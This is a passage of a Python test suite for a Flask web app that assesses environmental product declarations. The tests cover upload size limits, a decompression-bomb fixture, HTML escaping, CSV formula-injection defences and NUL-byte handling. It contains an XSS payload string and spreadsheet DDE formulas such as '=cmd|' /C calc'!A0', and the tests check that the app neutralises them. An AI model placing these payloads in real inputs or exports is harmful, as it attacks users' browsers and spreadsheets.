        assert shown[f"{where}_seconds"] < 10, shown


def test_the_command_line_refuses_a_file_over_the_size_limit_unread(tmp_path: Path) -> None:
    path = tmp_path / "big.json"
    path.write_bytes(epd_json() + b" " * 5000)
    result = run_cli("check", str(path), env={"BUYCLEAN_MAX_UPLOAD_BYTES": "1000"})
    assert result.returncode == 2
    assert re.search(r"[\d,]+ bytes is over the 1,000-byte limit \(BUYCLEAN_MAX_UPLOAD_BYTES\)", result.stderr)


def test_the_bomb_is_what_it_claims() -> None:
    # the test file is small, yet inflates to 1 GB of zeros (checked for 8 MB: the construction is the same)
    small = zeros_deflated(8)
    assert zlib.decompress(small) == bytes(8 << 20)
    assert len(payload("pdf-flate-bomb")) < 1_500_000


# --- text from an EPD is text: escaped on every page, never a formula in a CSV export ---------------------------

XSS = "<script>alert(1)</script><img src=x onerror=alert(1)>"
FORMULAS = ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def assert_escaped(page: Any, where: str) -> None:
    text = page.get_data(as_text=True)
    assert page.status_code == 200, (where, page.status_code)
    assert "<script>alert" not in text and "<img src=x" not in text, f"{where} shows the EPD's markup raw"
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;" in text, \
        f"{where} does not show the EPD's text at all"


def hostile_epd(text: str) -> dict[str, Any]:
    doc = native_epd(manufacturer=text, registration_number=f"EPD-{text}")
    doc["products"][0]["name"] = text
    doc["products"][1]["name"] = f"{text} 2"
    return doc


def test_markup_in_an_epd_is_shown_escaped_on_every_page(app: Flask, client: FlaskClient) -> None:
    body = json.dumps(hostile_epd(XSS)).encode()
    created = client.post("/api/v1/assessments", query_string={"filename": f"{XSS}.json"}, data=body,
                          content_type="application/json")
    assert created.status_code == 201, created.get_json()
    submission = created.headers["Location"].rsplit("/", 1)[1]
    assert_escaped(client.get(f"/submissions/{submission}"), "the submission page")
    assert_escaped(client.get("/submissions"), "the history page")
    anonymous = CsrfClient(app, app.response_class, use_cookies=True)
    assert_escaped(anonymous.post("/submissions", data={"file": (io.BytesIO(body), f"{XSS}.json")},
                                  content_type="multipart/form-data"), "the self-check page")
    batch = client.post("/api/v1/batches", data={"file": [(io.BytesIO(body), f"{XSS}.json"),
                                                          (io.BytesIO(b"not an EPD"), f"{XSS}.pdf")]},
                        content_type="multipart/form-data")
    assert batch.status_code == 202
    drain(app)
    assert_escaped(client.get(f"/batches/{batch.get_json()['id']}"), "the batch page")
    issued = client.post(f"/api/v1/assessments/{submission}/certificates")
    assert issued.status_code == 201, issued.get_json()
    number = issued.get_json()["items"][0]["number"]
    assert_escaped(client.get("/certificates"), "the certificate list")
    assert_escaped(anonymous.get(f"/verify/{number}"), "the verification page")
    pdf = client.get(f"/api/v1/certificates/{number}/pdf").data
    assert_escaped(anonymous.post("/verify", data={"file": (io.BytesIO(pdf), "certificate.pdf")},
                                  content_type="multipart/form-data"), "the verification page of an upload")


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV export that a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?[\d.]+", cell)]


def test_csv_exports_keep_formulas_as_text(app: Flask) -> None:
    officers = [logged_in(app, *make_account(app, role="officer", organisation="Agency F",
                                             email=f"{formula.replace(' ', '')}@agency.example"))
                for formula in FORMULAS]
    batch_ids = []
    for officer, formula in zip(officers, FORMULAS, strict=True):
        body = json.dumps(hostile_epd(formula)).encode()
        created = officer.post("/api/v1/assessments", query_string={"filename": formula}, data=body,
                               content_type="application/json")
        assert created.status_code == 201, created.get_json()
        batch = officer.post("/api/v1/batches", data={"file": [(io.BytesIO(body), f"{formula}.json"),
                                                               (io.BytesIO(b"x"), formula)]},
                             content_type="multipart/form-data")
        assert batch.status_code == 202
        batch_ids.append(batch.get_json()["id"])
    drain(app)
    auditor = logged_in(app, *make_account(app, role="auditor", organisation="Agency F", agencies=("Agency F",)))
    audit = auditor.get("/audit.csv")
    assert audit.status_code == 200
    assert not formula_cells(audit.get_data(as_text=True))
    assert "'=cmd|'/c" in audit.get_data(as_text=True)  # the e-mail is there, as text
    for officer, batch_id, formula in zip(officers, batch_ids, FORMULAS, strict=True):
        export = officer.get(f"/batches/{batch_id}.csv")
        assert export.status_code == 200
        text = export.get_data(as_text=True)
        assert not formula_cells(text), formula
        cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
        assert f"'{formula}" in cells and f"'{formula}.json" in cells  # product name and file names, as text


def test_a_result_that_cannot_be_stored_fails_its_item_and_the_batch_still_finishes(
        app: Flask, client: FlaskClient, monkeypatch: pytest.MonkeyPatch) -> None:
    # as a NUL character in an EPD's text once did on PostgreSQL: an error from the database, not from the file
    def refuse(*_args: Any, **_kwargs: Any) -> None:
        raise ValueError("A string literal cannot contain NUL (0x00) characters.")

    monkeypatch.setattr("buyclean.jobs.work.finish_item", refuse)
    response = client.post("/api/v1/batches", data={"file": [(io.BytesIO(epd_json()), "epd.json")]},
                           content_type="multipart/form-data")
    assert response.status_code == 202
    drain(app)
    body = client.get(f"/api/v1/batches/{response.get_json()['id']}").get_json()
    assert body["complete"] and body["counts"]["failed"] == 1
    assert body["items"][0]["error"] == "internal" and "has been logged" in body["items"][0]["message"]


def test_ids_too_large_for_the_database_are_not_found(client: FlaskClient) -> None:
    huge = 2**64
    assert client.get(f"/api/v1/assessments/{huge}").status_code == 404
    assert client.get(f"/submissions/{huge}").status_code == 404
    assert client.get(f"/api/v1/batches/{huge}").status_code == 404
    listed = client.get("/api/v1/assessments", query_string={"page": str(huge)})
    assert listed.status_code == 200 and listed.get_json()["items"] == []
    assert client.get("/submissions", query_string={"page": str(huge)}).status_code == 200


@pytest.mark.parametrize("how", ["query", "form", "json"])
def test_a_nul_in_request_text_is_refused_plainly(app: Flask, client: FlaskClient, how: str) -> None:
    # PostgreSQL cannot store NUL: it must come back as a 400 with a message, never reach a query or a row
    submission = client.post("/api/v1/assessments", data=json.dumps(native_epd()), content_type="application/json")
    sid = submission.headers["Location"].rsplit("/", 1)[1]
    if how == "query":
        response = client.get("/api/v1/assessments?material=steel%00x")
    elif how == "form":
        response = client.post(f"/submissions/{sid}/review", data={"field": "gwp_a1a3", "value": "245 kgCO2e/m3",
                                                                      "justification": "table\x00 on page 5"})
    else:
        response = client.post(f"/api/v1/assessments/{sid}/reviews", content_type="application/json",
                               data=json.dumps({"field": "gwp_a1a3", "value": "245 kgCO2e/m3",
                                                "justification": "table\u0000 on page 5"}))
    assert response.status_code == 400
    assert "NUL" in response.get_data(as_text=True)
